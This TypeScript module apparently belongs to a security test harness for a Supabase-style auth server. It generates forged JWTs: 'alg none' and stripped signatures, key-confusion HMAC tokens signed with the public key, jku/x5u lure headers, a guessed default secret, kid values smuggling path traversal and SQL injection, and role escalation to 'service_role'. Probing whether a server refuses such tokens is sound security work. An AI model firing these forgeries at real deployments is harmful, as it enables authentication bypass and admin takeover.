import { createHmac, createPublicKey, type KeyObject } from 'node:crypto';
import { exportJWK, generateKeyPair, SignJWT } from 'jose';
import { ask } from './ask.ts';
import type { AttackStage } from './attack.ts';

type Fields = Readonly<Record<string, unknown>>;

interface PublishedKey {
  kid: string;
  x: string;
  y: string;
}

/**
 * Tokens that claim to be the member of `genuine`, or the server itself, without its keys.
 *
 * @param lure address that a header names as the place of its key.
 * @returns what was done to each, and the token.
 */
export async function forgeTokens(
  stage: AttackStage,
  genuine: string,
  lure: string,
): Promise<[what: string, token: string][]> {
  const claims = claimsOf(genuine);
  const key = await publishedKey(stage);
  const host = claimsOf(stage.serviceRoleKey);
  const es256 = { alg: 'ES256', typ: 'JWT', kid: key.kid };
  const [head = '', body = '', signature = ''] = genuine.split('.');
  const own = await generateKeyPair('ES256', { extractable: true });
  const ownJwk = { ...(await exportJWK(own.publicKey)), kid: key.kid, alg: 'ES256' };
  const signed = (header: Fields, payload: Fields = claims) =>
    new SignJWT({ ...payload })
      .setProtectedHeader({ alg: 'ES256', ...header })
      .sign(own.privateKey);

  const tokens: [string, string][] = [
    ['the signature cut off', `${head}.${body}.`],
    ['without a signature part', `${head}.${body}`],
    ['another body', `${head}.${encode({ ...claims, role: 'service_role' })}.${signature}`],
    ['a zero signature', `${head}.${body}.${Buffer.alloc(64).toString('base64url')}`],
    ['a zero signature in DER', `${encode(es256)}.${body}.MAYCAQACAQA`],
    ['a key of its own', await signed({ kid: key.kid })],
    ['a key of its own in jwk', await signed({ jwk: ownJwk, kid: key.kid })],
    ['a key of its own in jwk, unnamed', await signed({ jwk: ownJwk })],
    ['a key at jku', await signed({ jku: lure, kid: 'lure' })],
    ['a key at x5u', await signed({ x5u: lure })],
    ['the server itself, by a key of its own', await signed({ kid: key.kid }, host)],
    ['crit', `${encode({ ...es256, crit: ['exp'] })}.${body}.${signature}`],
    ['b64', `${encode({ ...es256, b64: false, crit: ['b64'] })}.${body}.${signature}`],
  ];
  for (const alg of ['none', 'None', 'NONE', 'nOnE', ''])
    for (const end of ['', signature])
      tokens.push([`alg "${alg}"`, `${encode({ alg, typ: 'JWT' })}.${encode(claims)}.${end}`]);
  for (const [form, secret] of publicSecrets(key))
    for (const header of [
      { alg: 'HS256' },
      { alg: 'HS256', kid: key.kid },
      { alg: 'HS512', kid: key.kid },
    ])
      for (const payload of [claims, host])
        tokens.push([
          `${header.alg} with the public key as secret (${form})`,
          hmacToken({ typ: 'JWT', ...header }, payload, secret),
        ]);
  for (const secret of [
    '',
    'secret',
    'super-secret-jwt-token-with-at-least-32-characters-long',
    stage.anonKey,
  ])
    tokens.push(['a guessed secret', hmacToken({ alg: 'HS256', typ: 'JWT' }, host, secret)]);
  for (const kid of [
    '',
    '../../../../dev/null',
    '/dev/null',
    `' or 1=1--`,
    '__proto__',
    'constructor',
    lure,
  ])
    tokens.push([`kid "${kid}"`, hmacToken({ alg: 'HS256', kid }, host, '')]);
  return tokens;
}

/** Tokens that the host's own secret has signed, and that it must refuse for what they say. */
export function wrongClaims(secret: string, genuine: string): [what: string, token: string][] {
  const claims = claimsOf(genuine);
  const now = Math.floor(Date.now() / 1000);
  const wrong: [string, Fields][] = [
    ['expired', { exp: now - 60 }],
    ['expired long ago', { exp: 1 }],
    ['not yet', { nbf: now + 3600 }],
    ['an end that is text', { exp: 'never' }],
    ['an id token', { token_use: 'id' }],
    ...[
      'postgres',
      'supabase_admin',
      'authenticator',
      'supabase_auth_admin',
      'farseer',
      '',
      7,
      ['service_role'],
      { a: 1 },
    ].map((role): [string, Fields] => [`the role ${JSON.stringify(role)}`, { role }]),
  ];
  return wrong.map(([what, fields]) => [
    what,
    hmacToken({ alg: 'HS256', typ: 'JWT' }, { ...claims, ...fields }, secret),
  ]);
}

export function claimsOf(token: string): Fields {
  return JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as Fields;
}

export function hmacToken(header: Fields, payload: Fields, secret: string | Buffer): string {
  const text = `${encode(header)}.${encode(payload)}`;
  const hash = header['alg'] === 'HS512' ? 'sha512' : 'sha256';
  return `${text}.${createHmac(hash, secret).update(text).digest('base64url')}`;
}

async function publishedKey(stage: AttackStage): Promise<PublishedKey> {
  const { text } = await ask(stage, '/auth/v1/.well-known/jwks.json', { key: null });
  const [key] = (JSON.parse(text) as { keys: PublishedKey[] }).keys;
  if (!key) throw new Error('the host publishes no key');
  return key;
}

/** The public key in every form that a careless check would take for a secret. */
function publicSecrets(key: PublishedKey): [form: string, secret: string | Buffer][] {
  const object: KeyObject = createPublicKey({ key: { ...key }, format: 'jwk' });
  const pem = object.export({ type: 'spki', format: 'pem' }).toString();
  return [
    ['PEM', pem],
    ['PEM without its last line end', pem.trimEnd()],
    ['DER', object.export({ type: 'spki', format: 'der' })],
    ['JWK', JSON.stringify(key)],
    ['x', key.x],
    ['x in bytes', Buffer.from(key.x, 'base64url')],
  ];
}

function encode(fields: Fields): string {
  return Buffer.from(JSON.stringify(fields)).toString('base64url');
}
